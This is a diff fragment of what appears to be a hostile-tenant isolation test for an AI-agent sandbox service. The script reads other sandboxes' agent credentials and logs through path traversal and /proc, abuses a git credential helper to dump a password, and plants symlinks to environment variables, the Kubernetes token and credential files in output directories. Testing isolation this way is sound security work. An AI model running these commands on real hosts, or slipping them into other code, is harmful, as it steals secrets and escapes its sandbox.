@@ -26,7 +26,7 @@ timeout 120 grep -raohsE -D skip --exclude-dir=proc --exclude-dir=sys --exclude-
 { cat /proc/[0-9]*/mountinfo; ls -l /proc/[0-9]*/fd; } 2>/dev/null | look mounts
 for up in "$PWD/../.." "$HOME/../.." "$SERVICE_ARTIFACT_DIR/../../.." /slipway/.. /proc/1/root /proc/1/cwd/..; do
   cat "$up"/{,slipway/}sandboxes/${other}/{repo/left.txt,home/left.txt,home/.claude/.credentials.json} \\
-    "$up"/{,slipway/}executions/${other}-1/{prompt.md,agent/stdout.log} "$up"/{,slipway/}plans/* 2>/dev/null
+    "$up"/{,slipway/}executions/${other}-1/{given-*.json,agent/stdout.log} "$up"/{,slipway/}plans/* 2>/dev/null
 done | look upwards
 mkdir -p "$SERVICE_ARTIFACT_DIR"
 for target in /slipway/sandboxes/${other}/repo/left.txt /slipway/executions/${other}-1/agent/stdout.log \\
@@ -65,7 +65,7 @@ git config credential.helper '!cat /var/run/slipway/*/git/password >&2; true'
 ln -s /proc/self/environ environ-in-the-clone
 n=0
 for target in /proc/self/environ /var/run/slipway/hostile-1/git/password /var/run/secrets/kubernetes.io/serviceaccount/token \\
-  /slipway/sandboxes/OTHER/home/.claude/.credentials.json ../../../OTHER-1/given.json; do
+  /slipway/sandboxes/OTHER/home/.claude/.credentials.json ../../../OTHER-1/result.json; do
   n=$((n + 1)); ln -s "$target" "$SERVICE_ARTIFACT_DIR/trap-$n"; ln -s "$target" "$SERVICE_DROP_DIR/trap-$n"
 done
 ln -sf /var/run/slipway/hostile-1/git/password "$SERVICE_SUMMARY_FILE"
